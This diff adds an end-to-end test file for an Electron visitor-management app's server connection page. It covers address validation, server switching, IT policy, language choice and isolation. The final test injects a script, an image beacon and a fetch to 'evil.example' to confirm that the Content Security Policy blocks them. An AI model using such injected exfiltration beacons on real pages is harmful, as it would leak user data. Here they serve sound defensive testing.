@@ -1,0 +1,243 @@
+/** The connection page in Electron: the first start, several servers, and what a stranger finds there. */
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { healthy, listen, saying, serve } from "../support/servers.ts";
+import { type Desk, deskSuite } from "./desk.ts";
+
+const suite = deskSuite();
+
+/** An address that nobody answers at. */
+const nobody = "http://127.0.0.1:9";
+
+/** The app on its connection page, also where a server is chosen. */
+async function open(opening: Parameters<typeof suite.start>[0] = {}): Promise<Desk> {
+  const desk = await suite.start({ servers: [], width: 900, height: 600, ...opening });
+  const { page } = desk;
+  // what answers in these tests is no more than an address, and the console says so
+  suite.tolerate(/CallError/);
+  if (page.url() !== `${desk.origin}/`) await page.goto(`${desk.origin}/`);
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  return desk;
+}
+
+/** The settings as they are kept. */
+const stored = ({ userData }: Desk) => JSON.parse(readFileSync(join(userData, "settings.json"), "utf8"));
+
+/** The console is where one arrives. */
+const arrives = (page: Page) => page.waitForURL((url) => url.pathname.startsWith("/dash/"));
+
+/** Stands in for the system's browser. @returns what it was asked to open */
+async function browserOf({ app }: Desk, works = true): Promise<() => Promise<string[]>> {
+  await app.evaluate(({ shell }, isThere) => {
+    const opened: string[] = [];
+    Object.assign(globalThis, { opened });
+    shell.openExternal = async (url) => {
+      if (!isThere) throw new Error("There is no browser.");
+      opened.push(url);
+    };
+  }, works);
+  return () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
+}
+
+const address = (page: Page) => page.getByRole("textbox", { name: "서버 주소" });
+const type = async (page: Page, text: string) => {
+  await address(page).fill(text);
+  await address(page).press("Enter");
+};
+const sees = (page: Page, text: string) => page.getByText(text, { exact: false }).first().waitFor();
+
+describe("the first start", () => {
+  it("asks for the server, goes on to the console, and shows the server when somebody is back", async () => {
+    const server = await serve(healthy);
+    const desk = await open();
+    const { page, origin } = desk;
+    const opened = await browserOf(desk);
+    expect(await page.title()).toBe("방문 관리");
+    expect(await address(page).and(page.locator(":focus")).count()).toBe(1);
+    await type(page, `${server.origin}/form`);
+    await arrives(page);
+    expect(stored(desk)).toMatchObject({ servers: [server.origin], current: server.origin });
+
+    await page.goto(`${origin}/`);
+    await page.getByRole("region", { name: "사용 중인 서버" }).getByText("연결됨").waitFor();
+    await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
+    await expect.poll(opened).toEqual([`${server.origin}/`]);
+    await page.getByRole("button", { name: "방문 관리 열기" }).click();
+    await arrives(page);
+  });
+
+  it("says beside the field what is wrong with an address, and no longer once it is changed", async () => {
+    const desk = await open();
+    const { page } = desk;
+    const input = address(page);
+    for (const [typed, words] of [
+      ["", "서버 주소를 입력해 주세요."],
+      ["visit example", "주소 형식이 올바르지 않습니다."],
+      ["ftp://visit.example.com", "https://로 시작하는 주소만"],
+      ["http://visit.example.com", "암호화되지 않는 http://"],
+      ["https://me:secret@visit.example.com", "아이디나 비밀번호를 넣을 수 없습니다."],
+    ] as const) {
+      await type(page, typed);
+      await sees(page, words);
+      expect(await input.getAttribute("aria-invalid")).toBe("true");
+      const described = (await input.getAttribute("aria-describedby")) ?? "";
+      const error = described.split(" ")[0] ?? "";
+      expect(await page.locator(`[id="${error}"]`).textContent()).toContain(words);
+      expect(await input.and(page.locator(":focus")).count()).toBe(1);
+      await input.fill("https://");
+      await expect.poll(() => input.getAttribute("aria-invalid")).toBeNull();
+    }
+    expect(stored(desk).servers).toEqual([]);
+  });
+
+  it("says what is wrong with what answers", async () => {
+    const wifi = await serve(saying(200, "text/html", "<html>Wi-Fi</html>"));
+    const other = await serve(saying(200, "application/json", '{"status":"ok","product":"wiki"}'));
+    const moved = await serve((_request, response) =>
+      response.writeHead(302, { Location: "https://portal.example/login" }).end(),
+    );
+    const desk = await open();
+    const { page } = desk;
+    for (const [{ origin }, words] of [
+      [wifi, "웹페이지가 응답했습니다"],
+      [other, "방문 관리 서버가 아닙니다"],
+      [moved, "다른 주소(portal.example)로 넘겨져"],
+    ] as const) {
+      await type(page, origin);
+      await sees(page, words);
+    }
+    expect(stored(desk).servers).toEqual([]);
+  });
+
+  it("says that settings were lost", async () => {
+    const { page } = await open({ settings: '{"servers":["https://visit' });
+    await sees(page, "저장된 설정을 읽을 수 없어 새로 시작합니다.");
+  });
+});
+
+describe("several servers", () => {
+  it("change by a press; one that fails stays where it was, with the reason beside it", async () => {
+    const one = await serve(healthy);
+    const desk = await open({ servers: [one.origin, nobody] });
+    const { page } = desk;
+    await page.getByRole("button", { name: `${nobody}에 연결` }).click();
+    await page.getByRole("listitem").getByText("서버에 연결하지 못했습니다.").waitFor();
+    expect(stored(desk).current).toBe(one.origin);
+    await page.getByRole("button", { name: `${nobody} 삭제` }).click();
+    await page.getByRole("listitem").waitFor({ state: "detached" });
+    expect(stored(desk).servers).toEqual([one.origin]);
+    await expect.poll(() => page.evaluate("document.activeElement?.textContent")).toBe("서버 연결");
+  });
+
+  it("can be changed and removed by keyboard alone", async () => {
+    const [one, two] = [(await serve(healthy)).origin, (await serve(healthy)).origin];
+    const desk = await open({ servers: [one, two] });
+    const { page, origin } = desk;
+    const press = async (name: string) => {
+      for (let n = 0; n < 12; n++) {
+        await page.keyboard.press("Tab");
+        const label = await page.evaluate(
+          "document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent",
+        );
+        if (label === name) return page.keyboard.press("Enter");
+      }
+      throw new Error(`No way to ${name}.`);
+    };
+    await press(`${two}에 연결`);
+    await arrives(page);
+    expect(stored(desk).current).toBe(two);
+    await page.goto(`${origin}/`);
+    await page.getByRole("heading", { level: 1 }).waitFor();
+    await press(`${one} 삭제`);
+    await expect.poll(() => stored(desk).servers).toEqual([two]);
+  });
+
+  it("show the one that stopped answering, and ask it again", async () => {
+    const server = await listen(healthy);
+    const { page } = await open({ servers: [server.origin] });
+    await sees(page, "연결됨");
+    await server.close();
+    await page.getByRole("button", { name: "다시 확인" }).click();
+    await page.getByRole("alert").getByText("서버에 연결하지 못했습니다.").waitFor();
+    await page.getByText("연결 안 됨").waitFor();
+    expect(await page.getByRole("button", { name: "방문예약 사이트 열기" }).count()).toBe(0);
+  });
+
+  it("say when the browser cannot be opened", async () => {
+    const server = await serve(healthy);
+    const desk = await open({ servers: [server.origin] });
+    await browserOf(desk, false);
+    await desk.page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
+    await desk.page.getByRole("alert").getByText("브라우저를 열지 못했습니다.").waitFor();
+  });
+});
+
+describe("servers that IT fixed", () => {
+  it("are the only ones: no other can be named, and none removed", async () => {
+    const [one, two] = [(await serve(healthy)).origin, (await serve(healthy)).origin];
+    const desk = await open({ policy: { servers: [one, two] } });
+    const { page } = desk;
+    await page.getByText("서버 주소는 회사 IT 부서에서 정해 두었습니다.").waitFor();
+    await page.getByRole("region", { name: "사용 중인 서버" }).getByText(one).waitFor();
+    expect(await page.getByRole("textbox").count()).toBe(0);
+    expect(await page.getByRole("button", { name: /삭제/ }).count()).toBe(0);
+    await page.getByRole("button", { name: `${two}에 연결` }).click();
+    await arrives(page);
+  });
+
+  it("are not in force where the policy cannot be read, and the page says so", async () => {
+    const { page } = await open({ policy: '{"servers":["https', language: "en" });
+    await page.getByRole("alert").getByText("could not be read, so they are not in force").waitFor();
+    expect(await page.getByRole("textbox").count()).toBe(1);
+  });
+});
+
+it("the language is chosen on the page and kept", async () => {
+  const desk = await open();
+  const { page } = desk;
+  await page.getByRole("combobox", { name: "언어 선택 (Language)" }).selectOption("en");
+  await page.getByRole("heading", { name: "Connect to your server" }).waitFor();
+  await expect
+    .poll(() => page.evaluate("[document.documentElement.lang, document.title]"))
+    .toEqual(["en", "Visitor Desk"]);
+  expect(stored(desk).language).toBe("en");
+});
+
+it("a frame inside the page has no way to the main process", async () => {
+  const { page } = await open();
+  const inFrame = await page.evaluate(`
+    const { contentWindow } = document.body.appendChild(document.createElement("iframe"));
+    [typeof contentWindow.desktop, typeof contentWindow.require, typeof contentWindow.process];
+  `);
+  expect(inFrame).toEqual(["undefined", "undefined", "undefined"]);
+  expect(await page.evaluate("[typeof window.desktop, typeof require, typeof process]")).toEqual([
+    "object",
+    "undefined",
+    "undefined",
+  ]);
+});
+
+it("the policy stops what was slipped into the page", async () => {
+  suite.tolerate(/Content Security Policy/);
+  const { page } = await open();
+  const outcome = await page.evaluate(`(async () => {
+    const broken = [];
+    const allTold = new Promise((resolve) => {
+      document.addEventListener("securitypolicyviolation", (event) => {
+        if (broken.push(event.effectiveDirective) === 3) resolve();
+      });
+    });
+    const script = document.createElement("script");
+    script.textContent = "window.slipped = true";
+    document.body.append(script);
+    const image = new Image();
+    image.src = "https://evil.example/?stolen";
+    document.body.append(image);
+    await fetch("https://evil.example/").catch(() => {});
+    await allTold;
+    return { broken: broken.sort(), slipped: "slipped" in window };
+  })()`);
+  expect(outcome).toEqual({ broken: ["connect-src", "img-src", "script-src-elem"], slipped: false });
+});
